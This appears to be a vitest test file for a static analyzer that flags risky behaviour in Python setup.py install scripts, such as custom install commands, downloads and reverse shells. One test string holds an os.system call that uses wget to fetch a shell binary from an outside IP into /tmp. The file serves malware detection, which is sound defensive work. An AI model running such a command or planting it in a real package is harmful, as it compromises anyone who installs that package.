/** setup.py as PyPI's install script. */
import { analyzeSetupPy } from '@airlock/static-signals';
import { describe, expect, it } from 'vitest';
import { PY_REVERSE_SHELL_SETUP, W4SP_SETUP_PY } from './fixtures/incident-snippets.js';

describe('analyzeSetupPy', () => {
  it('a plain setup.py is only the info-level presence signal', () => {
    expect(analyzeSetupPy("from setuptools import setup\nsetup(name='x', version='1.0')\n")).toEqual([
      {
        id: 'install-script.setup-py',
        severity: 'info',
        message: 'setup.py runs Python code when pip builds or installs the sdist',
        evidence: { file: 'setup.py', value: 'setup.py' },
      },
    ]);
  });

  it('an overridden install command is medium; a build_ext override is low', () => {
    expect(analyzeSetupPy(W4SP_SETUP_PY).map((s) => [s.id, s.severity, s.evidence.line, s.details])).toEqual([
      ['install-script.setup-py', 'info', undefined, undefined],
      ['install-script.custom-command', 'medium', 5, { command: 'install' }],
    ]);
    const ext =
      "from setuptools.command.build_ext import build_ext\nclass Build(build_ext):\n    pass\nsetup(cmdclass={'build_ext': Build})\n";
    expect(analyzeSetupPy(ext).map((s) => [s.id, s.severity, s.details])).toEqual([
      ['install-script.setup-py', 'info', undefined],
      ['install-script.custom-command', 'low', { command: 'build_ext' }],
    ]);
  });

  it('a reverse shell in the install command', () => {
    expect(analyzeSetupPy(PY_REVERSE_SHELL_SETUP).map((s) => [s.id, s.severity, s.evidence.line])).toEqual([
      ['install-script.setup-py', 'info', undefined],
      ['install-script.custom-command', 'medium', 4],
      ['install-script.download', 'medium', 6],
      ['install-script.spawns-process', 'low', 9],
      ['install-script.network-shell', 'high', 8],
    ]);
  });

  it('wget in an os.system call counts as a download', () => {
    const text = "import os\nos.system('wget http://203.0.113.5:81/shell.elf -O /tmp/s')\n";
    expect(analyzeSetupPy(text, 'pkg-1.0/setup.py').map((s) => [s.id, s.evidence.file, s.evidence.line])).toEqual([
      ['install-script.setup-py', 'pkg-1.0/setup.py', undefined],
      ['install-script.download', 'pkg-1.0/setup.py', 2],
      ['install-script.spawns-process', 'pkg-1.0/setup.py', 2],
    ]);
  });
});
